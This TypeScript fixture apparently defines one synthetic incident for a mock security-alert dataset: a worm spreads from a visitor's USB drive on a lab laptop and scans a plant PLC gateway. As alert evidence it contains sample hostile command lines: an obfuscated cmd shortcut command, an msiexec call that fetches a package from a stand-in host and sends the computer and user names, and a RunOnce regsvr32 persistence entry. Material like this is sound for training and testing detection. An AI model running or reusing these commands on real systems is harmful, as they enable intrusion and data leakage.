import { named } from '../directory.ts';
import { azure, device, ev, file, ip, malware, process, registryValue, url, user } from '../parts.ts';
import type { Story } from './story.ts';

const worker = named('Kahurangi Te Whārangi-Paraone=kahurangi.tw');
const LAPTOP = 'HLD-LAB-LT044';
const LINK = 'E:\\KINGSTON (32GB).lnk';
const MSI = 'C:\\Windows\\System32\\msiexec.exe';

export const removable: Story = {
  index: 33,
  name: 'Worm from a removable drive on a laboratory laptop, then a scan towards plant sensors',
  summary:
    'A drive that a visitor left started a worm through a shortcut. It was cleaned after it had begun to scan the sensor network; a gateway answered but was not changed.',
  text: 'Endpoint, antivirus and plant alerts of one morning.',
  status: 'resolved',
  classification: 'truePositive',
  determination: 'malware',
  assignee: 7,
  tags: ['Plant'],
  closing: 'Laptop reinstalled, drive handed to forensics, sensor gateway checked by the vendor: no change.',
  comments: [
    [200, 7, 'Plant manager informed; production is not affected.'],
    [2, 7, 'Closing. Awareness note for the visitors’ entrance goes out on Monday.'],
  ],
  alerts: [
    {
      ago: 1_510,
      workload: 'mde',
      severity: 1,
      category: 'InitialAccess',
      title: 'Shortcut on a removable drive started a program',
      text: 'A shortcut that looks like the drive itself starts a command.',
      advice: 'malware',
      techniques: 'T1091 T1204.002',
      evidence: (ms) => [
        device(LAPTOP, 'sr compromised/Main device', worker),
        user(worker, 'n-'),
        file(LINK, LAPTOP, 'mr'),
        process(
          ['C:\\Windows\\System32\\cmd.exe', 'cmd /R cmD<qxW.cfg & sTART E:\\', 'C:\\Windows\\explorer.exe'],
          LAPTOP,
          ms,
          'mr',
          worker,
        ),
      ],
    },
    {
      ago: 1_508,
      workload: 'mde',
      severity: 2,
      category: 'CommandAndControl',
      title: 'Installer fetched a package from the internet',
      text: 'The installer was called with an address in place of a file.',
      advice: 'device',
      techniques: 'T1218.007 T1105',
      evidence: (ms) => [
        device(LAPTOP, 'sr compromised/Main device', worker),
        process(
          [
            MSI,
            'msiexec /q /i "http://k6j.filedrop.test:8080/%COMPUTERNAME%?=%USERNAME%"',
            'C:\\Windows\\System32\\cmd.exe',
          ],
          LAPTOP,
          ms,
          'mb',
          worker,
        ),
        url('http://k6j.filedrop.test:8080/', 'mb'),
        ip('192.0.2.143', 'mb'),
      ],
    },
    {
      ago: 1_502,
      workload: 'mde',
      severity: 2,
      category: 'Malware',
      title: "'Burrowtail' malware was detected",
      text: 'The antivirus found the worm in a library and put it into quarantine.',
      advice: 'malware',
      techniques: 'T1091 T1547.001',
      source: 'antivirus',
      threat: 'Worm:Win32/Burrowtail.C',
      evidence: () => [
        device(LAPTOP, 'sr compromised/Main device', worker),
        malware('Worm:Win32/Burrowtail.C', 'Worm', [file('C:\\ProgramData\\ozk.dll', LAPTOP, 'mr')], [], 'mr'),
        registryValue(
          'SOFTWARE\\Microsoft\\Windows\\CurrentVersion\\RunOnce',
          'ozk',
          'regsvr32 /s ozk.dll',
          LAPTOP,
          'mr',
        ),
      ],
    },
    {
      ago: 1_496,
      workload: 'xdr',
      severity: 2,
      category: 'Discovery',
      title: 'Sensor gateway scanned from the office network',
      text: 'A gateway of the plant network was contacted on forty ports from a laptop that has no business there.',
      advice: 'Ask the plant team whether the gateway answers as expected, and close the path between both networks.',
      techniques: 'T1046 T1018',
      source: 'microsoftDefenderForIoT',
      evidence: () => [
        ev('nic', { ipAddress: ip('10.90.4.17'), macAddress: '00-00-5E-00-53-17', vlans: ['904'] }),
        ev(
          'ioTDevice',
          {
            ...{ deviceId: 'plc-gw-04', deviceName: 'Gateway hall 4', deviceType: 'PLC', deviceSubType: 'Gateway' },
            ...{
              manufacturer: 'Example Automation',
              model: 'GW-200',
              operatingSystem: 'RTOS 4',
              serialNumber: 'EX-77120',
            },
            ...{
              importance: 'high',
              isAuthorized: true,
              isProgramming: false,
              isScanner: false,
              purdueLayer: 'Level 1',
            },
            ...{
              site: 'Halden plant',
              zone: 'Hall 4',
              sensor: 'sensor-02',
              source: 'network',
              owners: [worker.userPrincipalName],
            },
            ...{ protocols: ['Modbus', 'HTTP'], macAddress: '00-00-5E-00-53-17', ipAddress: ip('10.90.4.17') },
            devicePageLink: 'https://security.example/iot/plc-gw-04',
            ioTHub: azure('iot-halden', 'Microsoft.Devices/iotHubs'),
            ioTSecurityAgentId: null,
            nics: [ev('nic', { ipAddress: ip('10.90.4.17'), macAddress: '00-00-5E-00-53-17', vlans: ['904'] })],
            sourceRef: url('https://security.example/iot/sensor-02'),
          },
          'n- scanned',
        ),
        device(LAPTOP, 'sr attacker', worker),
      ],
    },
  ],
};
